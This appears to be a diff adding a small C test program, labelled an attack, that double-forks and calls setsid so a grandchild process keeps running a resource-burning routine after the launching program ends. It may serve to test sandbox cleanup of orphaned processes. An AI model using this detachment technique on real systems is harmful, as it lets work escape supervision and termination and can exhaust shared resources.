@@ -1,0 +1,12 @@
+/*
+ * Double fork, session of its own, then burns on after the program has ended.
+ */
+#include "attack.h"
+int main(void) {
+  if (fork() == 0) {
+    setsid();
+    if (fork() == 0) burn();
+    _exit(0);
+  }
+  return 0;
+}
